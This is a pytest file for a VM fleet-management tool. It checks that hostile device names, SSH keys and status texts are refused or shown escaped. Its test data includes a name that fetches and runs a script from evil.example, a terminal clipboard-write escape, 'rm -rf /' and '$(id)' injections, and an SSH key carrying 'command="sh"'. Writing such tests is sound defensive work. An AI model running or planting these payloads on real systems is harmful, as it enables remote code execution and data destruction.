"""Untrusted device names and texts cannot reach the admin's terminal or a root script raw
(issue 13 §2.3): names are restricted at every boundary, untrusted text is shown escaped."""

from __future__ import annotations

import argparse
from pathlib import Path

import pytest

from vmclient.admin import fleet, keys
from vmclient.admin.sshd import confinement, enrolment_dropbox
from vmclient.errors import UsageError
from vmclient.manage import enrol, fleetview
from vmclient.store import crypto, layout
from vmclient.store.documents import CONFIG_ID, RepoConfig
from vmclient.store.errors import RemoteIntegrityError
from vmclient.store.format import canonical_json, shown
from vmclient.store.orders import DeviceRecord
from vmclient.store.remote import MemoryStore
from vmclient.store.repo import put_signed

T = 1_764_000_000
ESC = "\x1b"
# a name that forges a root command in the script printed right after it, and writes the
# admin's clipboard through OSC 52 (then asks the terminal to paste it)
HOSTILE = ("lap\n# --- on the storage server, as root: account and directories ---\n"
           "curl -s https://evil.example/x | sh\n\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07")
HOSTILE_NAMES = [HOSTILE, "a b", "x;rm -rf /", "x$(id)", "-rf", "", "a" * 65, "caf\u00e9",
                 "\u202egnp.exe", "x\x00"]


@pytest.mark.asyncio
@pytest.mark.parametrize("name", HOSTILE_NAMES)
async def test_names_are_refused_where_they_are_made(tmp_path: Path, name: str) -> None:
    with pytest.raises(UsageError, match="device name"):
        enrol.CodeBook(tmp_path / "codes.json").issue(name, T)
    signing, wrapping = crypto.Ed25519PrivateKey.generate(), crypto.X25519PrivateKey.generate()
    with pytest.raises(UsageError, match="device name"):
        await enrol.send_request(MemoryStore(), signing, wrapping, name, "C" * 16, T)
    rec = DeviceRecord(crypto.key_id(signing.public_key()), name,
                       crypto.raw_public(signing.public_key()),
                       crypto.raw_public(wrapping.public_key()), T)
    with pytest.raises(UsageError, match="device name"):
        rec.to_bytes()


@pytest.mark.parametrize("name", ["laptop-17", "LT0042", "alice@example.com", "a.b_c+d"])
def test_plain_names_pass(tmp_path: Path, name: str) -> None:
    assert enrol.CodeBook(tmp_path / "codes.json").issue(name, T)


def test_a_signed_record_or_request_with_a_hostile_name_is_refused_when_read() -> None:
    signing, wrapping = crypto.Ed25519PrivateKey.generate(), crypto.X25519PrivateKey.generate()
    device = crypto.key_id(signing.public_key())
    fields = {"version": 1, "device": device, "name": HOSTILE,
              "signing_key": _b64(crypto.raw_public(signing.public_key())),
              "wrapping_key": _b64(crypto.raw_public(wrapping.public_key())), "enrolled": T}
    with pytest.raises(RemoteIntegrityError, match="'name'") as exc:
        DeviceRecord.parse(canonical_json(fields), device, "devices/x/device")
    assert ESC not in str(exc.value) and "\n" not in str(exc.value)
    req = {**fields, "requested": T, "proof": _b64(bytes(32))}
    del req["enrolled"]
    with pytest.raises(RemoteIntegrityError, match="'name'"):
        enrol.EnrolmentRequest.parse(canonical_json(req), device, "enrolment/x")


@pytest.mark.asyncio
async def test_a_hostile_enrolment_request_prints_nothing_raw(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The attack: a laptop with a valid code names itself HOSTILE; `enrol --accept` prints
    the name right above the root script the admin pastes on the storage server."""
    k = keys.create(tmp_path / "admin")
    book = enrol.CodeBook(k.dir / fleet.CODES)
    code = book.issue("laptop-1", T)
    remote = MemoryStore()
    cfg = RepoConfig(repository="0" * 32, created=T, chunk_size=64 << 10,
                     admin_key=crypto.raw_public(k.admin.public_key()),
                     escrow_key=crypto.raw_public(k.escrow.public_key()))
    await put_signed(remote, layout.CONFIG, k.admin, ("config", CONFIG_ID),
                     cfg.to_bytes())
    signing, wrapping = crypto.Ed25519PrivateKey.generate(), crypto.X25519PrivateKey.generate()
    device = crypto.key_id(signing.public_key())
    ssh_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB vmclient-device"
    req = enrol.EnrolmentRequest(device, HOSTILE, crypto.raw_public(signing.public_key()),
                                 crypto.raw_public(wrapping.public_key()), T,
                                 ssh_key=ssh_key).with_proof(code)
    await put_signed(remote, enrol.request_path(device), signing, ("enrolment", device),
                     req.to_bytes(), exclusive=False)
    args = argparse.Namespace(code=None, accept=True, dropbox=None, key_dir=k.dir,
                              server_repo="/srv/repo", repo="/srv/repo",
                              server_keys="/etc/ssh/vmc")
    with pytest.raises(UsageError, match="1 enrolment request"):
        await fleet.cmd_enrol_code(args, remote)
    out = capsys.readouterr().out
    assert ESC not in out and "\x07" not in out
    lines = out.splitlines()
    assert "curl -s https://evil.example/x | sh" not in lines
    assert not any(line.startswith("# --- on the storage server") for line in lines), out
    assert await remote.list(layout.device_dir(device)) == []  # not enrolled
    assert not any(c["used_by"] == device for c in book._load())


def test_the_fleet_table_and_reports_show_untrusted_text_escaped() -> None:
    view = fleetview.DeviceView("0" * 32, "laptop-1", T, release=f"{ESC}]52;c;eA==\x07",
                         problem=f"bad\n{ESC}[2J")
    table = fleetview.render_devices([view], T)
    assert ESC not in table and "\x07" not in table and len(table.splitlines()) == 3
    assert shown(f"a\n{ESC}b\x07\u202ec") == "a\\n\\x1bb\\x07\\u202ec"
    assert shown("plain text (ok) é") == "plain text (ok) é"


@pytest.mark.parametrize("key", [
    "ssh-ed25519 AAAAC3Nza dev\nssh-ed25519 AAAAC3Nzb attacker",  # a second, unrestricted key
    'command="sh" ssh-ed25519 AAAAC3Nza dev',  # options
    "ssh-ed25519 AAAAC3Nza dev\x1b]52;c;eA==\x07",  # a terminal escape in the comment
])
def test_an_ssh_key_is_one_plain_line_or_refused(key: str) -> None:
    with pytest.raises(UsageError, match="one OpenSSH public key"):
        confinement("0" * 32, key, "/srv/repo", "/etc/ssh/vmc")
    with pytest.raises(UsageError, match="one OpenSSH public key"):
        enrolment_dropbox(key, "/srv/repo", "/etc/ssh/vmc")


def test_a_plain_key_with_a_spaced_comment_is_accepted() -> None:
    c = confinement("0" * 32, "ssh-ed25519 AAAAC3Nza device 0123 (it's)", "/srv/r", "/k")
    assert "'restrict ssh-ed25519 AAAAC3Nza device 0123 (it'\"'\"'s)'" in c.script()


def _b64(raw: bytes) -> str:
    import base64
    return base64.b64encode(raw).decode()


@pytest.mark.asyncio
async def test_the_laptop_refuses_a_bad_name_before_touching_its_keys(tmp_path: Path) -> None:
    from vmclient.host.inventory import ManageConfig
    from vmclient.manage.agent import Agent
    from vmclient.virt.libvirt import Hypervisor

    cfg = ManageConfig(tmp_path / "manage", tmp_path / "vmkeys", tmp_path / "images")
    agent = Agent(cfg, MemoryStore(), Hypervisor("qemu:///system"))  # never connected
    admin = crypto.raw_public(crypto.Ed25519PrivateKey.generate().public_key())
    with pytest.raises(UsageError, match="device name"):
        await agent.request_enrolment(admin, "my laptop\n", "C" * 16)
    assert not cfg.device_keys_dir.exists() and not (cfg.state_dir / "admin.pub").exists()
